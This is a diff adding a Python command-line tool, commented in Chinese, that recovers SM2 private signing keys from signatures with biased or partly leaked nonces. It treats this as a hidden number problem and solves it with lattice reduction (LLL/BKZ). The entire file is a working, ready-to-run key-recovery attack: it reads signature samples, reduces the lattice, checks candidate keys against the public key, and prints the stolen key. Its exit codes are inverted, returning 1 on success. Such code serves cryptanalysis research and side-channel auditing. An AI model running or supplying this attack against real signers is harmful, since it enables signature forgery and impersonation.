@@ -0,0 +1,267 @@
+import argparse
+import json
+import random
+import sys
+from collections import namedtuple
+from typing import Iterable, Iterator, List, Union
+
+try:
+    import numpy as np
+except ImportError:  # 内置的 LLL 需要 NumPy；也可以安装 fpylll
+    np = None
+
+from sm2lib.curve import N, Point, decode_point, scalar_mult_base
+
+# -- 有偏 / 部分泄露随机数的 SM2 私钥恢复 (隐藏数问题 HNP) --
+# 由 s = (1 + d)^-1 (k - r d) 得 k = s + (s + r) d (mod n)。若每条签名的 k 有部分比特已知
+# (如高位泄露、k 过短，或低位泄露)，写成 k = msb·2^nonce_bits + b·2^lsb_bits + lsb，未知部分
+# 0 <= b < 2^(nonce_bits - lsb_bits)，则 b = u + t·d (mod n)，其中 t、u 由 (r, s) 和已知比特算出。
+# 足够多的样本构成 HNP：在格中 (b_1, ..., b_m) 对应的向量异常短，格基约减后即可读出 d。
+# 格基约减优先使用 fpylll (支持 BKZ)；未安装时使用本模块基于 NumPy 的浮点 LLL (只做 LLL)。
+# 经验上每条样本泄露 6 比特以上时纯 LLL 即可在一两分钟内完成，泄露更少时需要更多样本和 BKZ。
+# 找到的候选私钥用 d·G == 公钥 确认；未给出公钥时，以所有样本的 b 都落在范围内作为判据。
+#
+#   python hnp.py samples.jsonl --public-key 04... --nonce-bits 248 --workers 4
+Sample = namedtuple('Sample', ['t', 'u', 'bound'])  # 未知量 b = (u + t·d) mod n，0 <= b < bound
+
+def signature_sample(r: int, s: int, nonce_bits: int = 256, msb: int = 0, lsb: int = 0, lsb_bits: int = 0) -> Sample:
+    """由一条签名及其随机数的已知比特构造样本: k = msb·2^nonce_bits + b·2^lsb_bits + lsb
+
+    k 过短 (k < 2^l): nonce_bits=l；高位泄露: nonce_bits 为未知的低位数，msb 为泄露值；
+    低位泄露: lsb_bits 为泄露的位数，lsb 为泄露值。
+    """
+    bound = 1 << (nonce_bits - lsb_bits)
+    if bound >= N: raise ValueError("Sample leaks no information about the nonce.")
+    if not 0 <= lsb < 1 << lsb_bits: raise ValueError("lsb does not fit in lsb_bits.")
+    scale = pow(1 << lsb_bits, -1, N)
+    known = (msb << nonce_bits) + lsb
+    return Sample((s + r) * scale % N, (s - known) * scale % N, bound)
+
+def required_samples(samples: List[Sample]) -> int:
+    """经验的样本数: 约为 1.3 × 256 / 每条样本泄露的比特数"""
+    leaked = sum(N.bit_length() - (sample.bound - 1).bit_length() for sample in samples) / len(samples)
+    return int(1.3 * N.bit_length() / max(leaked, 1)) + 2
+
+def build_lattice(samples: List[Sample]) -> List[List[int]]:
+    """以第一个样本为主元消去 d，构造 (m + 1) 维格 (Kannan 嵌入)
+
+    令 b_i' = b_i - bound_i/2 (居中)，则 b_i' = A_i·b_0' + C_i (mod n)。各列按 Bmax / bound_i 加权，
+    使目标向量 (b_1', ..., b_{m-1}', b_0', Bmax/2) 的每个分量都不超过 Bmax/2。
+    """
+    bmax = max(sample.bound for sample in samples)
+    weights = [bmax // sample.bound for sample in samples]
+    t0, u0, bound0 = samples[0]
+    t0_inv = pow(t0, -1, N)
+    u0c = (u0 - bound0 // 2) % N
+    a = [t * t0_inv % N for t, _, _ in samples[1:]]
+    c = [((u - bound // 2) - ai * u0c) % N for (_, u, bound), ai in zip(samples[1:], a)]
+    m = len(samples)
+    rows = []
+    for i in range(m - 1):
+        row = [0] * (m + 1)
+        row[i] = N * weights[i + 1]
+        rows.append(row)
+    rows.append([ai * w for ai, w in zip(a, weights[1:])] + [weights[0], 0])
+    rows.append([ci * w for ci, w in zip(c, weights[1:])] + [0, bmax // 2])
+    return rows
+
+def lll_reduce(basis: List[List[int]], delta: float = 0.99) -> List[List[int]]:
+    """浮点 LLL (Schnorr-Euchner 式)：基向量保持为精确整数，Gram-Schmidt 系数用 float64 计算
+
+    每次用到第 k 行时都从整数基重新计算其 GSO；浮点内积发生严重抵消时改用精确的整数内积。
+    """
+    if np is None: raise RuntimeError("lll_reduce requires NumPy (or install fpylll).")
+    b = [list(row) for row in basis]
+    dim = len(b)
+    fb = np.array([[float(x) for x in row] for row in b])
+    mu = np.eye(dim)
+    bstar = np.zeros(dim)  # |b*_i|^2
+
+    def set_row(k: int, row: List[int]) -> None:
+        b[k] = row
+        fb[k] = [float(x) for x in row]
+
+    def gso_row(k: int) -> None:
+        fk = fb[k]
+        dots = fb[:k] @ fk
+        norms = np.sqrt(np.einsum('ij,ij->i', fb[:k + 1], fb[:k + 1]))
+        for j in np.flatnonzero(np.abs(dots) < 2.0 ** -26 * norms[:k] * norms[k]):
+            dots[j] = float(sum(x * y for x, y in zip(b[k], b[j])))
+        if k:
+            r = np.linalg.solve(mu[:k, :k], dots)  # <b_k, b*_j> (mu 的下三角部分以 1 为对角)
+            mu[k, :k] = r / bstar[:k]
+            bstar[k] = fk @ fk - r @ mu[k, :k]
+        else:
+            bstar[0] = fk @ fk
+
+    gso_row(0)
+    k = 1
+    while k < dim:
+        gso_row(k)
+        while True:  # 长度约减；浮点误差可能留下大于 1/2 的系数，重新计算 GSO 后再约减
+            big = np.flatnonzero(np.abs(mu[k, :k]) > 0.5)
+            if not len(big): break
+            j = k
+            while True:
+                big = np.flatnonzero(np.abs(mu[k, :j]) > 0.5)
+                if not len(big): break
+                j = int(big[-1])
+                q = int(round(mu[k, j]))
+                set_row(k, [x - q * y for x, y in zip(b[k], b[j])])
+                mu[k, :j] -= q * mu[j, :j]
+                mu[k, j] -= q
+            gso_row(k)
+        m = mu[k, k - 1]
+        if bstar[k] < (delta - m * m) * bstar[k - 1]:  # 不满足 Lovász 条件，交换后回退
+            b[k], b[k - 1] = b[k - 1], b[k]
+            fb[[k, k - 1]] = fb[[k - 1, k]]
+            if k == 1: gso_row(0)
+            k = max(k - 1, 1)
+        else:
+            k += 1
+    return b
+
+def reduce_basis(basis: List[List[int]], block_size: int = 0) -> List[List[int]]:
+    """格基约减: 安装了 fpylll 时用其 LLL (block_size > 0 时再做 BKZ)，否则用 lll_reduce"""
+    try:
+        from fpylll import BKZ, LLL, IntegerMatrix
+    except ImportError:
+        return lll_reduce(basis)
+    matrix = IntegerMatrix.from_matrix(basis)
+    LLL.reduction(matrix)
+    if block_size: BKZ.reduction(matrix, BKZ.Param(block_size=block_size))
+    return [[matrix[i, j] for j in range(matrix.ncols)] for i in range(matrix.nrows)]
+
+def check_candidate(d: int, samples: List[Sample], public_key: Point = None) -> bool:
+    """给出公钥时检查 d·G == 公钥，否则检查所有样本的 b 都在范围内"""
+    if not 1 <= d < N - 1: return False
+    if public_key is not None: return scalar_mult_base(d) == tuple(public_key)
+    return all((u + t * d) % N < bound for t, u, bound in samples)
+
+def candidates(reduced: List[List[int]], samples: List[Sample]) -> Iterator[int]:
+    """从约减后的基中读出候选私钥: 最后一个分量为 ±Bmax/2 的行对应 ±目标向量"""
+    bmax = max(sample.bound for sample in samples)
+    t0, u0, bound0 = samples[0]
+    weight0 = bmax // bound0
+    t0_inv = pow(t0, -1, N)
+    for row in reduced:
+        if abs(row[-1]) != bmax // 2 or row[-2] % weight0: continue
+        b0 = (row[-2] if row[-1] > 0 else -row[-2]) // weight0 + bound0 // 2
+        yield (b0 - u0) * t0_inv % N
+
+def solve(samples: List[Sample], public_key: Point = None, block_size: int = 0) -> Union[int, None]:
+    """对一组样本构造格并约减，返回通过检查的私钥，失败返回 None"""
+    reduced = reduce_basis(build_lattice(samples), block_size)
+    for d in candidates(reduced, samples):
+        if check_candidate(d, samples, public_key): return d
+    return None
+
+def _trial(subset: List[Sample], public_key: Point, block_size: int) -> Union[int, None]:
+    return solve(subset, public_key, block_size)
+
+def solve_parallel(samples: List[Sample], public_key: Point = None, subset_size: int = None, trials: int = 8,
+                   workers: int = None, block_size: int = 0, seed: int = None) -> Union[int, None]:
+    """在随机抽取的样本子集上并行尝试，任一子集成功即返回
+
+    部分样本的泄露信息有误 (噪声) 时，只要某个子集全部由正确样本组成就能成功。
+    """
+    subset_size = min(len(samples), subset_size or required_samples(samples))
+    rng = random.Random(seed)
+    subsets = [list(samples) if subset_size == len(samples) and i == 0 else rng.sample(samples, subset_size)
+               for i in range(trials)]
+    if workers == 1:
+        for subset in subsets:
+            d = _trial(subset, public_key, block_size)
+            if d is not None: return d
+        return None
+    from concurrent.futures import ProcessPoolExecutor, as_completed
+    pool = ProcessPoolExecutor(max_workers=workers)
+    try:
+        for future in as_completed([pool.submit(_trial, subset, public_key, block_size) for subset in subsets]):
+            d = future.result()
+            if d is not None: return d
+        return None
+    finally:
+        pool.shutdown(wait=False, cancel_futures=True)
+
+class HNPSolver:
+    """流式接收样本: 样本数达到 subset_size 后，每新增 step 条尝试一轮 solve_parallel"""
+    def __init__(self, public_key: Point = None, subset_size: int = None, step: int = None, trials: int = 8,
+                 workers: int = None, block_size: int = 0):
+        self.public_key = public_key
+        self.subset_size = subset_size
+        self.step = step
+        self.trials = trials
+        self.workers = workers
+        self.block_size = block_size
+        self.samples: List[Sample] = []
+        self.private_key = None
+        self._next_attempt = None
+
+    def add(self, sample: Sample) -> Union[int, None]:
+        """加入一条样本，必要时尝试求解；恢复出私钥后返回它"""
+        self.samples.append(sample)
+        if self.private_key is not None: return self.private_key
+        if self._next_attempt is None: self._next_attempt = self.subset_size or required_samples(self.samples)
+        if len(self.samples) >= self._next_attempt:
+            self._next_attempt = len(self.samples) + (self.step or max(1, self._next_attempt // 4))
+            return self.solve()
+        return None
+
+    def add_signature(self, r: int, s: int, **leak) -> Union[int, None]:
+        return self.add(signature_sample(r, s, **leak))
+
+    def feed(self, samples: Iterable[Sample]) -> Union[int, None]:
+        for sample in samples:
+            d = self.add(sample)
+            if d is not None: return d
+        return None
+
+    def solve(self) -> Union[int, None]:
+        self.private_key = solve_parallel(self.samples, self.public_key, self.subset_size, self.trials,
+                                          self.workers, self.block_size)
+        return self.private_key
+
+def _parse_int(value: Union[int, str]) -> int:
+    return value if isinstance(value, int) else int(value, 16)
+
+def _read_samples(source, args: argparse.Namespace) -> Iterator[Sample]:
+    for line in source:
+        if not line.strip(): continue
+        record = json.loads(line)
+        yield signature_sample(_parse_int(record['r']), _parse_int(record['s']),
+                               int(record.get('nonce_bits', args.nonce_bits)), _parse_int(record.get('msb', 0)),
+                               _parse_int(record.get('lsb', 0)), int(record.get('lsb_bits', args.lsb_bits)))
+
+def main(argv: List[str] = None) -> int:
+    parser = argparse.ArgumentParser(description="由有偏或部分泄露的随机数恢复 SM2 私钥 (HNP 格攻击)")
+    parser.add_argument('path', nargs='?', default='-', help="JSONL 样本 (r, s 及可选的 nonce_bits/msb/lsb/lsb_bits)，- 表示标准输入")
+    parser.add_argument('--public-key', help="公钥的十六进制编码，用于确认候选私钥")
+    parser.add_argument('--nonce-bits', type=int, default=256, help="样本未给出 nonce_bits 时的默认值")
+    parser.add_argument('--lsb-bits', type=int, default=0, help="样本未给出 lsb_bits 时的默认值")
+    parser.add_argument('--subset-size', type=int, help="每次尝试使用的样本数 (默认按泄露比特数估计)")
+    parser.add_argument('--step', type=int, help="流式读取时每新增多少条样本再尝试一轮")
+    parser.add_argument('--trials', type=int, default=8, help="每轮随机子集的个数")
+    parser.add_argument('--workers', type=int, help="进程数")
+    parser.add_argument('--block-size', type=int, default=0, help="BKZ 块大小 (需要 fpylll)，0 表示只做 LLL")
+    args = parser.parse_args(argv)
+
+    public_key = decode_point(bytes.fromhex(args.public_key)) if args.public_key else None
+    solver = HNPSolver(public_key, args.subset_size, args.step, args.trials, args.workers, args.block_size)
+    source = sys.stdin if args.path == '-' else open(args.path, encoding='utf-8')
+    try:
+        d = solver.feed(_read_samples(source, args))
+    finally:
+        if source is not sys.stdin: source.close()
+    if d is None and solver.samples and solver._next_attempt is not None and len(solver.samples) < solver._next_attempt:
+        d = solver.solve()  # 输入结束时用全部样本再试一轮
+    print(f"样本 {len(solver.samples)} 条", file=sys.stderr)
+    if d is None:
+        print("未能恢复私钥", file=sys.stderr)
+        return 0
+    print(json.dumps({'private_key': f"{d:064x}", 'samples': len(solver.samples)}))
+    return 1
+
+
+if __name__ == '__main__':
+    sys.exit(main())